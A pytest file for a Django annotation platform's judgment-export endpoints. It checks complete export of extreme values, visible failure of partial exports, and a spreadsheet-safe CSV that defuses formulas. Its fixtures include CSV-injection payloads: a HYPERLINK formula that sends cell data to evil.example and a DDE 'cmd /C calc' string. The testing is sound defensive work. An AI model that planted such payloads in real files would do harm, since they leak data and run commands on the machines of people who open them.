"""The judgment exports under hostile data (issue 11, items 2 and 7): odd values stored through
every write path export completely; a row that cannot be read partway leaves a file that does
not look complete (an error line no reader takes for a row, a logged error, an aborted
response); and judgments-spreadsheet.csv defuses the formulas that judgments.csv keeps."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import UTC, datetime, timedelta
from datetime import timezone as fixed_zone

import pytest
from django.db import connection
from django.test import Client
from django.utils import timezone

from analytics.api import exports
from analytics.export_formats import INCOMPLETE_MESSAGE, ExportStopped
from campaigns.importers.judgments import ImportOptions, import_judgments
from campaigns.models import Campaign
from judgments.actions.constants import MAX_STORED_INT
from tests.factories import (
    AssignmentFactory,
    CampaignFactory,
    HitFactory,
    HitSlotFactory,
    JudgmentFactory,
    OutputFactory,
    SegmentFactory,
    SystemFactory,
    WorkerFactory,
)
from tests.judgments.test_views import task_url

pytestmark = pytest.mark.django_db

FORMULA_SYSTEM = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_WORKER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def admin(django_user_model):
    return django_user_model.objects.create_superuser("root", "root@example.org", "pw")


def export(admin, campaign, name: str):
    client = Client()
    client.force_login(admin)
    return client.get(f"/api/campaigns/{campaign.pk}/export/{name}")


def read_all(response) -> bytes:
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content)


def read_until_stopped(response) -> bytes:
    """The chunks a client gets before the stream raises (the server then aborts)."""
    assert response.status_code == 200
    received = []
    with pytest.raises(ExportStopped) as stopped:
        for chunk in response.streaming_content:
            received.append(chunk)
    return stopped.value, b"".join(received)


# --- Odd values through every write path, exported completely ----------------------------------


def upload(text: str) -> io.BytesIO:
    data = io.BytesIO(text.encode("utf-8"))
    data.name = "scores.csv"
    return data


# Appraise rows: user, systemID, itemID, itemType, src, tgt, score, startTime, endTime (Unix s).
APPRAISE = (
    f"{FORMULA_WORKER},{FORMULA_SYSTEM.replace(',', ';')},1,TGT,ces,eng,0,-62135596800,"
    "-62135596790\n"
    "u2,+cmd,2,TGT,ces,eng,100,253402300000,253402300799\n"
    "u3,sys,3,TGT,ces,eng,55.5,0,0\n"
)


def test_odd_values_from_every_write_path_export_completely(admin):
    """The submit endpoint (offsets -23:00 and +14:00, microseconds, the longest duration),
    the judgment importer (year 1 and year 9999 start times, formula-like names) and the ORM
    (the extreme representable datetimes and numbers): every row comes out of judgments.csv
    and judgments.jsonl, with no error line."""
    # The importer.
    import_judgments([upload(APPRAISE)], ImportOptions("appraise", name="odd"))
    imported = Campaign.objects.get(name="odd")
    assert sorted(imported.judgments.values_list("client_started_at", flat=True)) == [
        datetime(1, 1, 1, tzinfo=UTC),
        datetime(1970, 1, 1, tzinfo=UTC),
        datetime(9999, 12, 31, 23, 46, 40, tzinfo=UTC),
    ]
    # The submit endpoint, on a campaign of its own.
    campaign = CampaignFactory(name="odd submissions")
    hit = HitFactory(campaign=campaign)
    for position in (1, 2, 3):
        HitSlotFactory(hit=hit, position=position)
    assignment = AssignmentFactory(hit=hit)
    now = timezone.now()
    sent = [
        (now - timedelta(minutes=5)).astimezone(fixed_zone(timedelta(hours=-23))).isoformat(),
        (now - timedelta(minutes=4)).astimezone(fixed_zone(timedelta(hours=14))).isoformat(),
        (now - timedelta(days=8)).isoformat(),  # a week-long item on a clock two hours late
    ]
    for position, started in enumerate(sent, start=1):
        response = Client().post(
            task_url(assignment, "judgments:task-submit"),
            data=json.dumps(
                {
                    "position": position,
                    "score": [0, 100, 33.333333333333336][position - 1],
                    "client_started_at": started,
                    "client_duration_ms": 604_800_000 if position == 3 else 0,
                }
            ),
            content_type="application/json",
        )
        assert response.status_code == 200, response.content
    # The ORM, on a third campaign: the extremes the columns and Python hold.
    orm = CampaignFactory(name="odd rows")
    segment = SegmentFactory(document__campaign=orm, source="\u2028\u2029\r\n\x0b\x0c\x1c")
    slot = HitSlotFactory(
        hit=HitFactory(campaign=orm),
        segment=segment,
        output=OutputFactory(segment=segment, system=SystemFactory(campaign=orm, name="-1+1")),
    )
    JudgmentFactory(
        assignment=AssignmentFactory(hit=slot.hit, worker=WorkerFactory(external_id="\t@x")),
        slot=slot,
        score=5e-324,
        given_z=-1.7976931348623157e308,
        text="=1+1\r\n",
        client_started_at=datetime.min.replace(tzinfo=UTC),
        client_duration_ms=MAX_STORED_INT,
        served_at=datetime.max.replace(tzinfo=UTC),
        server_duration_ms=0,
        # PostgreSQL's jsonb holds no NUL (\u0000): the nearest control character instead.
        details={"nested": [[[]]], "text": "\u0001\u007f"},
    )
    for each in (imported, campaign, orm):
        stored = {row[0]: row for row in exports.judgment_rows(each)}
        assert len(stored) == each.judgments.count() == (1 if each == orm else 3)
        csv_text = read_all(export(admin, each, "judgments.csv")).decode()
        assert "ERROR:" not in csv_text
        rows = list(csv.reader(io.StringIO(csv_text, newline=""), strict=True))
        assert rows[0] == list(exports.JUDGMENT_COLUMNS)
        assert sorted(int(row[0]) for row in rows[1:]) == sorted(stored)
        jsonl = read_all(export(admin, each, "judgments.jsonl")).decode()
        lines = jsonl.split("\n")
        assert lines[-1] == ""
        objects = [json.loads(line) for line in lines[:-1]]
        assert sorted(row["judgment_id"] for row in objects) == sorted(stored)
        for row in objects:
            expected = stored[row["judgment_id"]]
            started = expected[exports.JUDGMENT_COLUMNS.index("client_started_at")]
            assert row["client_started_at"] == (started and started.isoformat())
    # What the submit endpoint stored is UTC, whatever offset was sent.
    assert [
        started.utcoffset()
        for started in campaign.judgments.values_list("client_started_at", flat=True)
    ] == [timedelta(0)] * 3
    orm_row = json.loads(read_all(export(admin, orm, "judgments.jsonl")))
    assert orm_row["client_started_at"] == "0001-01-01T00:00:00+00:00"
    assert orm_row["served_at"] == "9999-12-31T23:59:59.999999+00:00"
    assert orm_row["worker_external_id"] == "\t@x"
    assert (orm_row["score"], orm_row["given_z"]) == (5e-324, -1.7976931348623157e308)


# --- A row that cannot be read partway ----------------------------------------------------------


@pytest.fixture
def poisoned(admin, monkeypatch):
    """Three judgments in one HIT; the second (in the export's order) holds a datetime the
    database has but Python cannot read: year 0, as 0001-01-01T00:30+01:00 became in UTC on
    PostgreSQL (SQLite stores datetimes as text, so it is written there by hand). The rows are
    fetched one at a time: the database driver converts a whole fetch at once, so with the
    usual 2,000 the rows before the bad one in its fetch are not written either."""
    monkeypatch.setattr(exports, "FETCH_CHUNK_SIZE", 1)
    campaign = CampaignFactory(name="poisoned")
    hit = HitFactory(campaign=campaign)
    assignment = AssignmentFactory(hit=hit)
    judgments = [
        JudgmentFactory(assignment=assignment, slot=HitSlotFactory(hit=hit, position=position))
        for position in (1, 2, 3)
    ]
    # PostgreSQL has no year 0 in its notation: astronomical year 0 is 1 BC there.
    year_zero = (
        "0001-12-31 23:30:00+00 BC"
        if connection.vendor == "postgresql"
        else ("0000-12-31 23:30:00")
    )
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE judgments_judgment SET client_started_at = %s WHERE id = %s",
            [year_zero, judgments[1].pk],
        )
    return campaign, judgments


def test_a_csv_export_that_fails_partway_does_not_look_complete(admin, poisoned, caplog):
    campaign, judgments = poisoned
    with caplog.at_level(logging.ERROR, logger="analytics.api.exports"):
        stopped, received = read_until_stopped(export(admin, campaign, "judgments.csv"))
    assert stopped.rows == 1
    assert isinstance(stopped.__cause__, ValueError)  # year 0 is out of range
    text = received.decode()
    lines = text.split("\r\n")
    assert lines[0] == ",".join(exports.JUDGMENT_COLUMNS)
    assert lines[1].startswith(f"{judgments[0].pk},poisoned,")
    error = '"' + INCOMPLETE_MESSAGE.format(rows=1)
    assert lines[2:] == [error, ""]
    assert "ERROR: the export stopped after 1 rows" in error
    # A strict CSV reader (pandas' too) fails on the quote that never closes; a lenient one
    # reads the error as a row of one cell.
    with pytest.raises(csv.Error, match="unexpected end of data"):
        list(csv.reader(io.StringIO(text, newline=""), strict=True))
    last = list(csv.reader(io.StringIO(text, newline="")))[-1]
    assert len(last) == 1 and last[0].startswith("ERROR: the export stopped")
    # Logged with the campaign and the row.
    (record,) = caplog.records
    assert record.getMessage() == (
        f"Export judgments.csv of campaign {campaign.pk} (poisoned) stopped after 1 rows (the "
        f"last one written: judgment {judgments[0].pk}): a row after it in the export's order "
        "(HIT, assignment, slot position), among the next 1 fetched, could not be read or "
        "written. The client got an incomplete file ending with an error line; the response "
        "is aborted."
    )
    assert record.exc_info and isinstance(record.exc_info[1], ValueError)


def test_a_jsonl_export_that_fails_partway_does_not_look_complete(admin, poisoned, caplog):
    campaign, judgments = poisoned
    with caplog.at_level(logging.ERROR, logger="analytics.api.exports"):
        stopped, received = read_until_stopped(export(admin, campaign, "judgments.jsonl"))
    assert stopped.rows == 1
    lines = received.decode().split("\n")
    assert json.loads(lines[0])["judgment_id"] == judgments[0].pk
    assert lines[1:] == [INCOMPLETE_MESSAGE.format(rows=1), ""]
    with pytest.raises(json.JSONDecodeError):
        json.loads(lines[1])
    assert "Export judgments.jsonl of campaign" in caplog.records[0].getMessage()


def test_rows_written_before_the_failure_reach_the_client_whatever_the_chunk_size(poisoned):
    """The chunk buffer is flushed before the error propagates: no row is lost silently."""
    from analytics import export_formats

    campaign, judgments = poisoned
    for write in (export_formats.csv_chunks, export_formats.jsonl_chunks):
        received = []
        rows = exports.judgment_rows(campaign)
        with pytest.raises(ExportStopped):
            for chunk in write(exports.JUDGMENT_COLUMNS, rows, chunk_size=10**9):
                received.append(chunk)
        assert len(received) == 1
        assert INCOMPLETE_MESSAGE.format(rows=1).encode() in received[0]


# --- The spreadsheet-safe export -------------------------------------------------------------


@pytest.fixture
def formulas(admin):
    """A campaign imported from a file whose system names and worker ids are formulas."""
    import_judgments(
        [
            upload(
                f"{FORMULA_WORKER},{FORMULA_SYSTEM.replace(',', ';')},1,TGT,ces,eng,40,100,110\n"
                "-worker,+sys,2,TGT,ces,eng,60,100,110\n"
            )
        ],
        ImportOptions("appraise", name="formulas"),
    )
    return Campaign.objects.get(name="formulas")


SAFE_SYSTEM = FORMULA_SYSTEM.replace(",", ";")


def test_the_exact_csv_keeps_the_formulas_as_stored(admin, formulas):
    rows = list(
        csv.DictReader(io.StringIO(read_all(export(admin, formulas, "judgments.csv")).decode()))
    )
    assert {(row["worker_external_id"], row["system"]) for row in rows} == {
        (FORMULA_WORKER, SAFE_SYSTEM),
        ("-worker", "+sys"),
    }


def test_the_spreadsheet_csv_defuses_every_formula_cell(admin, formulas):
    response = export(admin, formulas, "judgments-spreadsheet.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="formulas-judgments-spreadsheet.csv"'
    )
    data = read_all(response)
    assert data.startswith(b"\xef\xbb\xbfjudgment_id,campaign,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert {(row["worker_external_id"], row["system"]) for row in rows} == {
        ("'" + FORMULA_WORKER, "'" + SAFE_SYSTEM),
        ("'-worker", "'+sys"),
    }
    # No cell a spreadsheet would run; numbers (a negative z too) stay numbers.
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    assert sorted(row["score"] for row in rows) == ["40.0", "60.0"]


def test_the_spreadsheet_csv_leaves_negative_numbers_and_plain_text_alone(admin):
    campaign = CampaignFactory(name="plain")
    judgment = JudgmentFactory(
        assignment__hit=HitFactory(campaign=campaign), score=0.5, given_z=-1.25, text="ok"
    )
    exact = read_all(export(admin, campaign, "judgments.csv")).decode()
    safe = read_all(export(admin, campaign, "judgments-spreadsheet.csv")).decode("utf-8-sig")
    assert safe == exact
    assert f"{judgment.pk},plain," in safe and ",0.5,-1.25," in safe


def test_both_csv_flavours_are_described_in_the_openapi_schema(admin):
    import yaml

    client = Client()
    client.force_login(admin)
    paths = yaml.safe_load(client.get("/api/schema/").content)["paths"]
    exact = paths["/api/campaigns/{campaign_id}/export/judgments.csv"]["get"]
    safe = paths["/api/campaigns/{campaign_id}/export/judgments-spreadsheet.csv"]["get"]
    assert "The exact data, to analyse" in exact["description"]
    assert "download judgments-spreadsheet.csv instead" in exact["description"]
    assert safe["operationId"] == "campaign_export_judgments_spreadsheet_csv"
    assert "NOT the exact data" in safe["description"]
    assert "leading apostrophe" in safe["description"]
    assert list(safe["responses"]["200"]["content"]) == ["text/csv"]


def test_the_spreadsheet_csv_is_guarded_like_the_other_exports(django_user_model, formulas):
    url = f"/api/campaigns/{formulas.pk}/export/judgments-spreadsheet.csv"
    assert Client().get(url).status_code == 401
    outsider = Client()
    outsider.force_login(django_user_model.objects.create_user("outsider"))
    assert outsider.get(url).status_code == 404
    # The flavour is the file name, not a parameter: the parameter is refused as unknown.
    assert outsider.get(f"{url}?spreadsheet=1").json() == {
        "spreadsheet": ["Unknown parameter; this export takes no query parameters."]
    }


def test_the_system_table_has_a_spreadsheet_copy_too(admin, formulas):
    exact = export(admin, formulas, "systems.csv").content.decode()
    response = export(admin, formulas, "systems-spreadsheet.csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="formulas-systems-spreadsheet.csv"'
    )
    safe = response.content
    assert safe.startswith(b"\xef\xbb\xbf")
    exact_rows = list(csv.reader(io.StringIO(exact)))
    safe_rows = list(csv.reader(io.StringIO(safe.decode("utf-8-sig"))))
    system = exact_rows[0].index("system")
    assert {row[system] for row in exact_rows[1:]} == {SAFE_SYSTEM, "+sys"}
    # Only the system names change: every number (a negative z too) is as in systems.csv.
    assert safe_rows == [
        [("'" + value if value in (SAFE_SYSTEM, "+sys") else value) for value in row]
        for row in exact_rows
    ]


def test_defusing_a_table_keeps_numbers_and_quoting():
    from analytics.api.exports import spreadsheet_safe_csv

    text = 'system,mean_z,note\n"=SUM(1,2)",-0.613,"a ""quoted"", text"\n-sys,-1e-05,@x\n'
    assert spreadsheet_safe_csv(text) == (
        '\ufeffsystem,mean_z,note\n"\'=SUM(1,2)",-0.613,"a ""quoted"", text"\n\'-sys,-1e-05,\'@x\n'
    )


def test_only_plain_numbers_escape_defusing():
    from analytics.api.exports import spreadsheet_safe_csv

    # float() reads all of these, but a spreadsheet evaluates the first three: system names.
    assert spreadsheet_safe_csv("-inf,+1,-NaN,12,-3.5E+2\n") == "\ufeff'-inf,'+1,'-NaN,12,-3.5E+2\n"
